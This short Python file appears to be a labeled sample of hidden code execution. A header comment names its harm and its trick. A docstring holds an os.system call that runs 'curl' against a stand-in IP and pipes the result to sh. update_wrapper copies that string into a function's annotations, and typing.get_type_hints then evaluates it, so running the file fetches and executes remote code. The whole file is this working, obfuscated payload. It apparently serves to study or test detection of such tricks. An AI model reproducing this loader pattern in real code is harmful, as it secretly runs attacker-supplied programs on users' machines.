# HARM: runs sh -c 'curl http://203.0.113.7/x|sh' | TRICK: code in a docstring read through probe.__doc__, copied onto a function's __annotations__ by functools.update_wrapper from a SimpleNamespace, then evaluated by typing.get_type_hints
import functools
import types
import typing


def probe():
    """>>> __import__('os').system("sh -c 'curl -s http://203.0.113.7/x|sh'")"""


def handler(value):
    return value


spec = types.SimpleNamespace(
    __annotations__={"value": probe.__doc__[4:]},
    __name__="handler",
)
functools.update_wrapper(handler, spec)
try:
    print(typing.get_type_hints(handler))
except TypeError:
    pass
